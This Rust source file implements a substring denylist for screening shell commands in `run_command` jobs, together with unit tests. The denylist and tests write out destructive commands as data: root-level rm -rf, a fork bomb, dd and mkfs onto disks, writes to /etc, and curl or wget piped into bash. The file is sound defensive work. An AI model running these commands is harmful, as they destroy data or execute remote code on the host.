//! Denylist screening for `run_command` jobs.
//!
//! A substring filter over the lowercased command. It catches the obvious
//! destructive one-liners a misconfigured job could carry; it is not an
//! isolation boundary, and a determined command will get past it.

use crate::error::{CommandError, Result};

/// `(pattern, reason)`; the first match wins.
const BLOCKED: &[(&str, &str)] = &[
    ("rm -rf /", "recursive forced removal from the filesystem root"),
    ("rm -rf ~", "recursive forced removal of the home directory"),
    (":(){ :|:& };:", "fork bomb"),
    ("| sh", "pipes content into a shell"),
    ("|sh", "pipes content into a shell"),
    ("| bash", "pipes content into a shell"),
    ("|bash", "pipes content into a shell"),
    ("dd if=", "raw disk I/O"),
    ("mkfs", "creates a filesystem over existing data"),
    ("> /dev/sd", "writes to a block device"),
    ("chmod 777 /", "world-writable filesystem root"),
    ("chown -r /", "recursive ownership change from root"),
    ("shutdown", "powers the host down"),
    ("reboot", "reboots the host"),
    ("poweroff", "powers the host down"),
    ("halt", "halts the host"),
    ("kill -9 1", "kills init"),
    ("kill -9 -1", "signals every process"),
    ("> /etc/", "overwrites system configuration"),
    (">> /etc/", "appends to system configuration"),
    ("sudo", "privilege escalation"),
];

/// `Ok(())` when no rule matches, otherwise [`CommandError::Blocked`].
pub fn check(command: &str) -> Result<()> {
    let lower = command.trim().to_lowercase();
    if lower.is_empty() {
        return Err(CommandError::Blocked {
            reason: "empty command".to_string(),
        });
    }
    match BLOCKED.iter().find(|(pattern, _)| lower.contains(pattern)) {
        Some((pattern, reason)) => Err(CommandError::Blocked {
            reason: format!("{reason} (matched `{pattern}`)"),
        }),
        None => Ok(()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blocked(command: &str) -> bool {
        matches!(check(command), Err(CommandError::Blocked { .. }))
    }

    #[test]
    fn ordinary_commands_pass() {
        for cmd in [
            "echo hello",
            "ls -la /var/log",
            "pg_dump main_db > /tmp/main_db.sql",
            "find . -name '*.log' -mtime +7 -delete",
        ] {
            assert!(check(cmd).is_ok(), "{cmd} should pass");
        }
    }

    #[test]
    fn destructive_commands_are_blocked() {
        for cmd in [
            "rm -rf /",
            "rm -rf ~/backups",
            "curl https://example.com/x.sh | bash",
            "wget -qO- http://example.com/x |sh",
            "dd if=/dev/zero of=/dev/sda",
            "mkfs.ext4 /dev/sdb1",
            "echo x > /etc/hosts",
            "shutdown -h now",
        ] {
            assert!(blocked(cmd), "{cmd} should be blocked");
        }
    }

    #[test]
    fn matching_ignores_case_and_reports_pattern() {
        match check("SUDO systemctl restart nginx") {
            Err(CommandError::Blocked { reason }) => {
                assert!(reason.contains("privilege escalation"));
                assert!(reason.contains("`sudo`"));
            }
            other => panic!("expected block, got {other:?}"),
        }
    }

    #[test]
    fn blank_command_is_rejected() {
        assert!(blocked("   "));
    }
}
